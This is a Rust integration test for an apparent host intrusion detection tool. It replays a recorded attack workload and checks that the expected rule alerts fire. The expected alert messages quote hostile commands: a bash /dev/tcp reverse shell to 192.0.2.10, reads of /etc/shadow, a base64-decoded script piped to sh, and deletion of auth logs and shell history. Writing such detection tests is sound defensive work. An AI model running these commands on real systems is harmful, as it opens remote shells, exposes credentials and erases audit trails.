//! The shipped recording through the shipped rules: what a newcomer sees where eBPF cannot run.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use ocellus_tests::ecs::assert_ecs_clean;
use ocellus_tests::program::{field, ocellus, parse};
use serde_json::json;

fn root(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(path)
}

fn replay(arguments: &[&str]) -> Output {
    let dir = tempfile::tempdir().expect("there is room");
    let config = dir.path().join("ocellus.toml");
    let cache = dir.path().join("cache");
    std::fs::write(&config, format!("[rules]\ncache_dir = {cache:?}\n")).expect("it is writable");
    let output = Command::new(ocellus())
        .args(["replay", "--config"])
        .arg(&config)
        .arg("--rules")
        .arg(root("rules/dist"))
        .args(arguments)
        .arg(root("examples/sample.ocellus"))
        .stdin(Stdio::null())
        .output()
        .expect("the program starts");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    output
}

/// Who alerts on what, in order. `examples/sample.sh` is the workload.
const ALERTS: [(&str, &str); 12] = [
    ("shell-from-service", "nginx started a shell: sh -c id; cat /etc/passwd"),
    (
        "reverse-shell",
        "root opened a /dev/tcp reverse shell: \
         sh -c timeout 1 bash -i >& /dev/tcp/192.0.2.10/4444 0>&1",
    ),
    (
        "shell-from-service",
        "nginx started a shell: sh -c timeout 1 bash -i >& /dev/tcp/192.0.2.10/4444 0>&1",
    ),
    ("credential-files", "root read /etc/shadow: cat /etc/shadow"),
    ("exec-from-world-writable", "root executed /dev/shm/.x: /dev/shm/.x -c sleep 0.2; true"),
    ("exec-from-world-writable", "root executed /tmp/kworker: [kworker/0:1] -c sleep 0.2; true"),
    ("kernel-thread-masquerade", "root executed /tmp/kworker as kernel thread kworker"),
    ("encoded-script", "root runs a script that it decodes: sh -c echo aWQK | base64 -d | sh"),
    ("exec-from-world-writable", "root executed /tmp/rootsh: /tmp/rootsh -p -c id"),
    ("setuid-abuse", "nobody ran /tmp/rootsh, a set-uid program"),
    ("log-tampering", "root destroyed logs: rm -f /var/log/auth.log"),
    (
        "log-tampering",
        "root switched the shell history off: sh -c unset HISTFILE; HISTFILE=/dev/null true",
    ),
];

#[test]
fn the_intruder_is_found_and_nobody_else() {
    let output = replay(&[]);
    assert_ecs_clean(&output.stdout);
    let events = parse(&output.stdout);
    let mut alerts = Vec::new();
    for event in &events {
        let texts = |path| field(event, path).as_array().cloned().unwrap_or_default();
        let ids = texts("ocellus.rules.alerts");
        for (id, message) in ids.into_iter().zip(texts("ocellus.rules.messages")) {
            alerts.push((id, message));
        }
    }
    let expected: Vec<_> = ALERTS.iter().map(|(id, message)| (json!(id), json!(message))).collect();
    assert_eq!(alerts, expected);
    assert!(events.len() > 80, "{} events", events.len());
}

#[test]
fn each_replay_is_the_same() {
    for format in ["json", "msgpack", "pretty"] {
        let first = replay(&["--format", format]).stdout;
        assert!(!first.is_empty());
        assert!(first == replay(&["--format", format]).stdout, "{format} differs");
    }
}
